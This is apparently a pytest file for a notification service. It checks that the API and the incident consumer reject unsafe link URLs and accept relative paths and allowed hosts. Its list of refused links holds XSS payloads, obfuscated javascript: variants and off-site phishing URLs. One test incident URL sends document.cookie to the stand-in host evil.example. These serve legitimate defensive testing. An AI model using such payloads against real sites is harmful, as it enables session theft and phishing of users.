"""`entity_url` is followed by the bell and becomes a button in emails, so it may only be a
relative path (one leading `/`) or an http(s) URL on an allowed host: `javascript:` would run
in the host application, `//evil.example/...` would send people off-site. The REST API answers
422 `invalid_entity_url`; an incident event with such a URL is notified without its link."""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterator

import httpx
import pytest
from aio_pika.abc import AbstractRobustConnection
from sqlalchemy.ext.asyncio import AsyncEngine

from contracts.topology import Topology
from database.engine import create_engine
from messaging.incidents import IncidentPublisher
from messaging.topology import consumer_queue_names, declare_consumer, declare_incidents_exchange
from services.notification.incidents import consumer_spec, incident_consumer
from services.notification.incidents.rules import load_rules
from tests.incidents.samples import sample_created_event
from tests.support.incident_consumer import wait_for_notifications
from tests.support.system import System
from tests.support.users import new_user

ALLOWED_HOST = "app.tocsin.test"

REFUSED_LINKS = [
    "javascript:alert(document.cookie)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/phish",
    "/\\evil.example/phish",
    "\\\\evil.example/phish",
    "https://evil.example/phish",
    f"https://{ALLOWED_HOST}.evil.example/x",
    f"https://user:pass@{ALLOWED_HOST}/x",
    "ftp://evil.example/x",
    "incidents/42",
]


@pytest.fixture(scope="module")
def linked_system(database_url: str, amqp_url: str) -> Iterator[System]:
    system = System(
        database_url,
        amqp_url,
        email_enabled=False,
        webhook_enabled=False,
        notification_env={"ENTITY_URL_ALLOWED_HOSTS": ALLOWED_HOST},
    )
    try:
        yield system.start()
    finally:
        system.stop()


def notification(entity_url: str) -> dict[str, object]:
    return {"recipients": [new_user()], "type": "incident_created", "priority": "high",
            "title": "Click me", "entity_url": entity_url}  # fmt: skip


@pytest.mark.parametrize("entity_url", REFUSED_LINKS)
async def test_unsafe_entity_urls_are_refused_with_invalid_entity_url(
    linked_system: System, entity_url: str
) -> None:
    async with httpx.AsyncClient(base_url=linked_system.api_url, timeout=10) as api:
        for path, body in (
            ("/api/v1/notifications", notification(entity_url)),
            ("/api/v1/announcements", notification(entity_url)),
        ):
            response = await api.post(path, json=body, headers=linked_system.service_headers())
            assert response.status_code == 422, (path, entity_url, response.text)
            assert response.json()["error"]["code"] == "invalid_entity_url", response.text


@pytest.mark.parametrize(
    "entity_url",
    ["/incidents/42", "/incidents/42?tab=log#c3", "#/incidents/42", f"https://{ALLOWED_HOST}/x"],
)
async def test_relative_paths_and_allowed_hosts_are_stored_and_returned(
    linked_system: System, entity_url: str
) -> None:
    body = notification(entity_url)
    async with httpx.AsyncClient(base_url=linked_system.api_url, timeout=10) as api:
        created = await api.post(
            "/api/v1/notifications", json=body, headers=linked_system.service_headers()
        )
        assert created.status_code == 201, created.text
        user = body["recipients"][0]  # type: ignore[index]
        listing = await api.get("/api/v1/notifications", headers=linked_system.user_headers(user))
    assert [n["entity_url"] for n in listing.json()["items"]] == [entity_url]


@pytest.fixture
async def incident_engine(database_url: str) -> AsyncIterator[AsyncEngine]:
    engine = create_engine(database_url, pool_size=2, max_overflow=2)
    yield engine
    await engine.dispose()


async def test_an_incident_with_an_unsafe_url_is_notified_without_its_link(
    amqp_url: str,
    amqp_connection: AbstractRobustConnection,
    topology: Topology,
    broker_cleanup: list[str],
    incident_engine: AsyncEngine,
) -> None:
    spec = consumer_spec(topology)
    broker_cleanup.extend(consumer_queue_names(topology, spec.name, spec.retry_delays_ms))
    channel = await amqp_connection.channel()
    await declare_incidents_exchange(channel, topology)
    await declare_consumer(channel, topology, spec)
    await channel.close()
    unsafe = sample_created_event(watchers=1, team=0)
    unsafe.incident.url = "javascript:fetch('//evil.example/'+document.cookie)"
    safe = sample_created_event(watchers=1, team=0)
    hosts = frozenset({ALLOWED_HOST})
    async with (
        incident_consumer(incident_engine, amqp_url, topology, load_rules(), link_hosts=hosts),
        IncidentPublisher(amqp_url, namespace=topology.namespace) as publisher,
    ):
        await publisher.publish(unsafe)
        await publisher.publish(safe)
        refused = await wait_for_notifications(incident_engine, unsafe.incident.id, 1)
        kept = await wait_for_notifications(incident_engine, safe.incident.id, 1)
    assert [row["entity_url"] for row in refused] == [None]
    assert unsafe.incident.key in refused[0]["title"]
    assert [row["entity_url"] for row in kept] == [safe.incident.url]
